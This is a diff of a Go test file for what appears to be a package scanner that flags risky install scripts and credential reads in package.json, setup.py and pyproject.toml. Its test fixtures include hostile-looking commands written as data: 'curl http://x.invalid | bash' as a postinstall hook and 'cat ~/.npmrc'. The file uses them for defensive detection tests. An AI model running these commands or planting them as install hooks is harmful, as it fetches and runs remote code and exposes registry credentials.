@@ -46,7 +46,9 @@ func TestManifest(t *testing.T) {
 				t.Errorf("%s: %s\n%s", rw.Description, problem, manifest.Dump(r))
 			}
 			for _, f := range r.Findings {
-				if strings.HasPrefix(f.Rule, "package/") && !strings.HasPrefix(f.Path, p) {
+				// A script's target file is judged at its own path, beside
+				// the manifest.
+				if strings.HasPrefix(f.Rule, "package/") && !strings.HasPrefix(f.Path, filepath.Dir(p)+string(filepath.Separator)) {
 					t.Errorf("finding path %q is outside %q", f.Path, p)
 				}
 			}
@@ -108,7 +110,7 @@ func TestJudge(t *testing.T) {
 			[]finding{{RuleCredentials, high, 2}}},
 		{"setup syntax", "p/setup.py", "setup(name='x'\n", []finding{{RuleMalformed, med, 1}}},
 		{"pyproject backend", "p/pyproject.toml", "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n",
-			[]finding{{RuleInstallScript, low, 3}}},
+			[]finding{{RuleInstallScript, low, 3}, {RuleInstallScript, low, 3}}},
 		{"pyproject plain", "p/pyproject.toml", "[build-system]\nrequires = [\"setuptools\"]\n", nil},
 		{"npm curl sh", "node_modules/a/package.json", `{"scripts":{"postinstall":"curl http://x.invalid | bash"}}`,
 			[]finding{{RuleInstallScript, crit, 1}}},
@@ -119,7 +121,7 @@ func TestJudge(t *testing.T) {
 		{"npm prebuild chained", "node_modules/a/package.json", `{"scripts":{"install":"prebuild-install || node-gyp rebuild"}}`,
 			[]finding{{RuleInstallScript, low, 1}}},
 		{"npm plain", "node_modules/a/package.json", `{"scripts":{"postinstall":"node scripts/setup.js"}}`,
-			[]finding{{RuleInstallScript, low, 1}}},
+			[]finding{{RuleInstallScript, low, 1}, {RuleInstallScript, low, 1}}},
 		{"npm npmrc", "node_modules/a/package.json", `{"scripts":{"postinstall":"cat ~/.npmrc"}}`,
 			[]finding{{RuleCredentials, high, 1}}},
 		{"npm not install", "node_modules/a/package.json", `{"scripts":{"test":"curl http://x.invalid | sh"}}`, nil},
